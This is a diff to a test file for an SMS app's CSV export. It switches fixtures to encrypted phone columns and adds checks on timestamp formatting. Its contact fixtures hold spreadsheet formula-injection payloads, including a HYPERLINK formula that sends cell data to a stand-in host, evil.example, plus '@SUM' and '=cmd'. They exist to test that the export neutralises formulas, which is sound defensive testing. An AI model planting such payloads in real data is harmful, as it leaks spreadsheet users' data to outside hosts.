@@ -4,7 +4,7 @@
  * neutralised while phone numbers stay readable, and the file is streamed from a cursor in
  * batches the reader pulls (not buffered whole), ending the transaction if the reader leaves.
  */
-import { createTestDatabase, createUser, type TestDatabase } from '@sms/db/testing';
+import { createTestDatabase, createUser, phoneColumns, type TestDatabase } from '@sms/db/testing';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { encodeHistoryCursor } from '$lib/server/sms/history-query';
@@ -14,6 +14,7 @@ import { eventsCsv } from './event-export.ts';
 import { messagesCsv } from './message-export.ts';
 import { parseMessageFilters } from './message-filters.ts';
 import { listMessages } from './messages.ts';
+import { isoTime, pgTime } from './csv-stream.ts';
 
 const TZ = 'America/Los_Angeles';
 const ROWS = 5000;
@@ -21,6 +22,11 @@ let t: TestDatabase;
 let org: string;
 let viewer: string;
 const claims = () => ({ sub: viewer, role: 'authenticated' as const });
+/** A number's four sealed columns, as values for `(…, phone_enc, phone_hash, phone_last4, calling_code, …)`. */
+const ph = (e164: string) => {
+	const p = phoneColumns(e164);
+	return t.sql`${p.phone_enc}, ${p.phone_hash}, ${p.phone_last4}, ${p.calling_code}`;
+};
 const messageFilters = (p: Record<string, string>) => parseMessageFilters(new URLSearchParams(p), { timeZone: TZ, defaultCountry: 'US' });
 
 async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: Uint8Array[] }> {
@@ -42,20 +48,22 @@ beforeAll(async () => {
 	org = o!.id;
 	await t.sql`select public.add_organization_member(${org}, ${viewer}, 'viewer')`;
 	const [other] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-b', 'Other') returning id`;
-	const [evil] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_number)
-		values (${org}, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+14155550123') returning id`;
-	const [sum] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_number)
-		values (${org}, '@SUM(1+1)', '+14155550124') returning id`;
+	const [evil] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code)
+		values (${org}, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', ${ph('+14155550123')}) returning id`;
+	const [sum] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code)
+		values (${org}, '@SUM(1+1)', ${ph('+14155550124')}) returning id`;
+	const [p3, p4] = [phoneColumns('+14155550123'), phoneColumns('+14155550124')];
 	await t.sql`
-		insert into public.sms_messages (organization_id, contact_id, phone_number, message_content, status, error_code, price, price_unit, created_at)
+		insert into public.sms_messages (organization_id, contact_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, error_code, price, price_unit, created_at)
 		select ${org}, case when i % 2 = 0 then ${evil!.id}::uuid else ${sum!.id}::uuid end,
-			case when i % 2 = 0 then '+14155550123' else '+14155550124' end,
+			case when i % 2 = 0 then ${p3.phone_enc} else ${p4.phone_enc} end, case when i % 2 = 0 then ${p3.phone_hash} else ${p4.phone_hash} end,
+			case when i % 2 = 0 then '0123' else '0124' end, '1',
 			case when i = 1 then '+1 415 555 0123' when i = 3 then '+1 415 555 0123 called' else 'Doors open at 7' end,
 			case when i % 5 = 0 then 'failed' else 'delivered' end, case when i % 5 = 0 then 30003 end,
 			-0.0079, 'USD', timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
 		from generate_series(1, ${ROWS}) i`;
-	const [stranger] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_number) values (${other!.id}, 'Stranger', '+14155550123') returning id`;
-	await t.sql`insert into public.sms_messages (organization_id, contact_id, phone_number, message_content, status) values (${other!.id}, ${stranger!.id}, '+14155550123', 'not yours', 'failed')`;
+	const [stranger] = await t.sql<{ id: string }[]>`insert into public.contacts (organization_id, name, phone_enc, phone_hash, phone_last4, calling_code) values (${other!.id}, 'Stranger', ${ph('+14155550123')}) returning id`;
+	await t.sql`insert into public.sms_messages (organization_id, contact_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status) values (${other!.id}, ${stranger!.id}, ${ph('+14155550123')}, 'not yours', 'failed')`;
 	await t.sql`
 		insert into public.sms_delivery_events (message_id, provider, status, raw_status, source, sender_ip, payload, received_at)
 		select m.id, 'twilio', s.status, s.status, 'webhook', '203.0.113.9', jsonb_build_object('MessageStatus', s.status, 'Body', '=cmd'), m.created_at + s.after
@@ -100,13 +108,28 @@ describe('messagesCsv', () => {
 		expect(rows.some((r) => r.body === 'not yours')).toBe(false);
 	});
 
+	it("writes each time exactly as to_char(…, 'YYYY-MM-DD\"T\"HH24:MI:SS.MSTZH:TZM') would, in every kind of zone", async () => {
+		for (const zone of ['America/Los_Angeles', 'UTC', 'Asia/Kolkata', 'America/St_Johns', 'Australia/Lord_Howe', 'Europe/Amsterdam']) {
+			const rows = await t.sql.begin(async (tx) => {
+				await tx`select set_config('timezone', ${zone}, true), set_config('datestyle', 'ISO, YMD', true)`;
+				return tx.unsafe<{ pg: string; want: string }[]>(`
+					select ${pgTime('x')} as pg, to_char(x, 'YYYY-MM-DD"T"HH24:MI:SS.MSTZH:TZM') as want
+					from (values (timestamptz '2026-11-20T10:00:00Z'), ('2026-07-01T23:59:59.999999Z'), ('2026-03-29T01:00:00.5Z'),
+						('2026-12-31T12:00:00.000123Z'), ('1890-01-01T12:00:00Z'), ('2026-01-01T00:00:00.010Z')) v (x)`);
+			});
+			for (const r of rows) expect(isoTime(r.pg), `${zone} ${r.pg}`).toBe(r.want);
+		}
+	});
+
 	it("names users by e-mail in every batch: the look-up runs between the cursor's reads", async () => {
 		const [o] = await t.sql<{ id: string }[]>`insert into public.organizations (slug, name) values ('export-users', 'Users') returning id`;
 		await t.sql`select public.add_organization_member(${o!.id}, ${viewer}, 'viewer')`;
 		const users = await Promise.all([1, 2, 3].map((i) => createUser(t.sql, { email: `export-user-${i}@example.com` })));
+		const sealed = [0, 1, 2].map((k) => phoneColumns('+1415555020' + k));
 		await t.sql`
-			insert into public.sms_messages (organization_id, user_id, phone_number, message_content, status, created_at)
-			select ${o!.id}, (${users}::uuid[])[1 + i % 3], '+1415555020' || (i % 3), 'hi', 'delivered',
+			insert into public.sms_messages (organization_id, user_id, phone_enc, phone_hash, phone_last4, calling_code, message_content, status, created_at)
+			select ${o!.id}, (${users}::uuid[])[1 + i % 3], (${sealed.map((p) => p.phone_enc)}::text[])[1 + i % 3],
+				(${sealed.map((p) => p.phone_hash)}::text[])[1 + i % 3], '020' || (i % 3), '1', 'hi', 'delivered',
 				timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
 			from generate_series(1, 95) i`;
 		let batches = 0;
